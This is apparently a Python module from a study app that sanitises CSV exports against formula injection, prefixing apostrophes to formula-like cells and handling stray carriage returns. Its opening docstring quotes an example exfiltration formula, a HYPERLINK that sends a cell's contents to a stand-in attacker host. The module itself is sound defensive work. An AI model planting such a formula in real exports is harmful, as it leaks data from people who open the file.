"""Every CSV the app writes goes through here, so that no cell runs as a formula in a spreadsheet.

A participant's free text such as ``=HYPERLINK("http://evil.example/?leak="&A2,"Click me")`` would
otherwise be a live formula when a researcher opens an export in Excel or LibreOffice (CSV or formula
injection). Following OWASP's CSV-injection guidance, a text cell that begins with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return gets a leading apostrophe (``'``), which spreadsheet
programs read as "this is text". Numbers are never touched: numeric columns stay numeric, and a
text cell that is just a number (``-3``, ``+31``) stays as it is, since it cannot run anything.

CSV writers here also never leave a carriage return of its own inside a cell: Python's csv module
quotes a cell only for the characters of its line terminator, so with ``\\n`` line ends a lone CR
would be written bare, and Excel and pandas would start a new row there (with whatever text follows,
formulas included). Such a CR becomes ``\\n``, which is quoted; ``\\r\\n`` inside text stays.

``raw_text=True`` turns the apostrophes off for files meant for R or Python (the export page's
checkbox, ``studyapp export --raw-text``). Formats that are not opened by spreadsheets (SPSS .sav,
Parquet) keep text exactly as given and do not use this module. A future XLSX writer must use
:func:`neutralise` too: openpyxl stores any string that starts with ``=`` as a formula.
"""

from __future__ import annotations

import csv
import io
import os
import re
from collections.abc import Iterable, Mapping, Sequence
from typing import IO, TYPE_CHECKING, Any

if TYPE_CHECKING:
    import pandas as pd
    import pyarrow as pa

#: The first characters that make a spreadsheet read a cell as a formula (OWASP).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:[.,]\d+)?|[.,]\d+)(?:[eE][+-]?\d+)?")
_LONE_CR = re.compile(r"\r(?!\n)")


def N_(message: str) -> str:  # noqa: N802 (gettext's name for "extract this, translate it later")
    """``message`` unchanged: a catalogue text that the pages and the codebook translate where they show it."""
    return message


#: What the codebook and the export page say about text cells in CSV files (English; the catalogue has
#: their translations, which the export page and the HTML codebook show).
NEUTRALISED_NOTE = N_(
    "In the CSV files, a text cell that begins with =, +, -, @, a tab or a carriage return starts with an "
    "apostrophe (') so that Excel and LibreOffice show it as text and never run it as a formula (OWASP's "
    "advice against CSV injection). Numbers, and text that is just a number such as -3, are unchanged. "
    "Remove that leading apostrophe before analysing such text, or export with raw text for R and Python. "
    "A carriage return on its own inside a text is written as a line feed. The SPSS .sav and Parquet files "
    "hold every text exactly as given."
)
RAW_NOTE = N_(
    "Exported with raw text: the CSV files hold every text exactly as given (a carriage return on its own "
    "inside a text is written as a line feed), so a text that begins with = may run as a formula when the "
    "file is opened in a spreadsheet program. Read these files with R or Python, not Excel. The SPSS .sav "
    "and Parquet files hold every text exactly as given."
)


def text_note(*, raw_text: bool = False) -> str:
    """The sentence for codebooks and pages that says how text is written to CSV."""
    return RAW_NOTE if raw_text else NEUTRALISED_NOTE


def is_formula_like(text: str) -> bool:
    """Whether a spreadsheet program could take ``text`` for a formula."""
    return text.startswith(FORMULA_TRIGGERS) and not _PLAIN_NUMBER.fullmatch(text)


def neutralise(value: Any, *, raw_text: bool = False) -> Any:
    """``value`` as a CSV or XLSX cell: formula-like text gets a leading ``'``; anything else is unchanged."""
    if not isinstance(value, str):
        return value
    if not raw_text and is_formula_like(value):
        value = "'" + value
    return _LONE_CR.sub("\n", value) if "\r" in value else value


def neutralise_row(values: Iterable[Any], *, raw_text: bool = False) -> list[Any]:
    """Each cell of a row through :func:`neutralise`."""
    return [neutralise(value, raw_text=raw_text) for value in values]


class SafeWriter:
    """``csv.writer`` whose rows pass through :func:`neutralise` (header included)."""

    def __init__(self, handle: IO[str], *, raw_text: bool = False, **options: Any) -> None:
        self._writer = csv.writer(handle, **options)
        self._raw_text = raw_text

    def writerow(self, values: Iterable[Any]) -> None:
        self._writer.writerow(neutralise_row(values, raw_text=self._raw_text))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for values in rows:
            self.writerow(values)


class SafeDictWriter:
    """``csv.DictWriter`` whose rows pass through :func:`neutralise` (header included)."""

    def __init__(self, handle: IO[str], fieldnames: Sequence[str], *, raw_text: bool = False, **options: Any):
        self._writer = SafeWriter(handle, raw_text=raw_text, **options)
        self.fieldnames = list(fieldnames)

    def writeheader(self) -> None:
        self._writer.writerow(self.fieldnames)

    def writerow(self, values: Mapping[str, Any]) -> None:
        extra = set(values) - set(self.fieldnames)
        if extra:
            raise ValueError(f"fields not in fieldnames: {sorted(extra)}")
        self._writer.writerow(["" if values.get(name) is None else values[name] for name in self.fieldnames])

    def writerows(self, rows: Iterable[Mapping[str, Any]]) -> None:
        for values in rows:
            self.writerow(values)


def _text_to_neutralise(column: pd.Series) -> Any:
    """Of a text column (pandas' string dtype), which cells start like a formula or hold a carriage return:
    the only ones :func:`neutralise` may change (a boolean array), found without a Python call per cell."""
    starts = column.str.startswith(FORMULA_TRIGGERS).fillna(False)
    has_cr = column.str.contains("\r", regex=False).fillna(False)
    return (starts | has_cr).to_numpy(dtype=bool)


def neutralise_frame(frame: pd.DataFrame, *, raw_text: bool = False) -> pd.DataFrame:
    """A copy of ``frame`` with :func:`neutralise` applied to every text column (numbers untouched)."""
    import pandas as pd

    out = frame.copy()
    for name in out.columns:
        column = out[name]
        if pd.api.types.is_numeric_dtype(column.dtype) or pd.api.types.is_datetime64_any_dtype(column.dtype):
            continue
        if isinstance(column.dtype, pd.StringDtype):
            # vectorised for text-only columns: only cells that need a change go through Python
            touched = _text_to_neutralise(column)
            if touched.any():
                values = column.to_numpy(dtype=object, na_value=None)  # type: ignore[call-overload]  # pandas-stubs leave None out of na_value; pandas takes it
                values[touched] = [neutralise(v, raw_text=raw_text) for v in values[touched]]
                out[name] = pd.array(values, dtype=column.dtype)
        else:
            out[name] = column.map(lambda v: neutralise(v, raw_text=raw_text))
    return out


def _csv_cells(column: pd.Series, raw_text: bool) -> list[Any]:
    """A column's cells for the csv writer: missing as ``None`` (an empty field), text through
    :func:`neutralise` (only text that starts like a formula or holds a carriage return: any other cell is
    unchanged by it anyway)."""
    import pandas as pd

    values = column.to_numpy(dtype=object, na_value=None)  # type: ignore[call-overload]  # pandas-stubs leave None out of na_value
    if pd.api.types.is_numeric_dtype(column.dtype):
        return list(values.tolist())
    if isinstance(column.dtype, pd.StringDtype):  # vectorised: only the cells to change go through Python
        touched = _text_to_neutralise(column)
        if touched.any():
            values[touched] = [neutralise(v, raw_text=raw_text) for v in values[touched]]
        return list(values.tolist())
    return [
        neutralise(cell, raw_text=raw_text)
        if cell.__class__ is str and (cell.startswith(FORMULA_TRIGGERS) or "\r" in cell)
        else cell
        for cell in values.tolist()
    ]


def append_csv_rows(frame: pd.DataFrame, handle: IO[str], *, header: bool, raw_text: bool = False) -> None:
    """``frame``'s rows (and its header when ``header``) appended to an open CSV file, every cell through
    :func:`neutralise` as :func:`frame_to_csv` writes them: for files written chunk by chunk.

    The rows are joined by Arrow's string kernels, not by the csv module row by row: the long export of
    a national panel has fourteen million rows. The text is byte for byte what ``csv.writer`` (minimal
    quoting, ``\\n`` line ends) writes, which a property test checks.
    """
    buffer = io.StringIO()  # one write (and one encoding) per chunk instead of one per row
    writer = csv.writer(buffer, lineterminator="\n")
    if header:
        writer.writerow(neutralise_row((str(c) for c in frame.columns), raw_text=raw_text))
    if len(frame.columns) < 2:  # csv.writer quotes an empty field that is alone on its row
        writer.writerows(zip(*(_csv_cells(frame[name], raw_text) for name in frame.columns), strict=True))
        handle.write(buffer.getvalue())
        return
    handle.write(buffer.getvalue())
    if len(frame):
        handle.write(_csv_lines([_csv_fields(frame[name], raw_text) for name in frame.columns]))


def _csv_fields(column: pd.Series, raw_text: bool) -> pa.Array:
    """A column's CSV fields as Arrow text: each cell as the csv module writes it (``str`` of a number,
    nothing for a missing cell, text through :func:`neutralise`), quoted where it holds ``,``, ``"`` or a
    line feed (the csv module's minimal quoting with ``\\n`` line ends)."""
    import pandas as pd
    import pyarrow as pa
    import pyarrow.compute as pc

    if pd.api.types.is_integer_dtype(column.dtype):  # exact in Arrow (digits, never quoted); others: str()
        return pc.fill_null(pc.cast(pa.array(column), pa.string()), "")
    if isinstance(column.dtype, pd.StringDtype) and not _text_to_neutralise(column).any():
        fields = pc.fill_null(pa.array(column, type=pa.string()), "")
    else:
        fields = pa.array(
            [
                "" if cell is None else cell if cell.__class__ is str else str(cell)
                for cell in _csv_cells(column, raw_text)
            ],
            type=pa.string(),
        )
    to_quote = pc.match_substring_regex(fields, '[,"\n]')
    if not pc.any(to_quote).as_py():  # most columns (pseudonyms, labels, codes): nothing to quote
        return fields
    quoted = pc.binary_join_element_wise('"', pc.replace_substring(fields, '"', '""'), '"', "")
    return pc.if_else(to_quote, quoted, fields)


def _csv_lines(columns: list[pa.Array]) -> str:
    """The rows of ``columns`` (Arrow text of equal length, no missing values) as CSV lines."""
    import numpy as np
    import pyarrow as pa
    import pyarrow.compute as pc

    lines = pc.binary_join_element_wise(*columns, ",")
    lines = pc.binary_join_element_wise(lines, "", "\n")  # each line and its line end
    if isinstance(lines, pa.ChunkedArray):
        lines = lines.combine_chunks()
    large = pa.types.is_large_string(lines.type)
    offsets = np.frombuffer(lines.buffers()[1], dtype=np.int64 if large else np.int32)
    start, end = offsets[lines.offset], offsets[lines.offset + len(lines)]
    return lines.buffers()[2].to_pybytes()[start:end].decode("utf-8")


def frame_to_csv(
    frame: pd.DataFrame,
    path: str | os.PathLike[str],
    *,
    raw_text: bool = False,
    encoding: str = "utf-8",
    lineterminator: str = "\n",
) -> None:
    """Write ``frame`` (header and cells through :func:`neutralise`) as CSV without its index."""
    safe = neutralise_frame(frame, raw_text=raw_text)
    header = neutralise_row((str(c) for c in frame.columns), raw_text=raw_text)
    safe.to_csv(path, index=False, header=header, encoding=encoding, lineterminator=lineterminator)
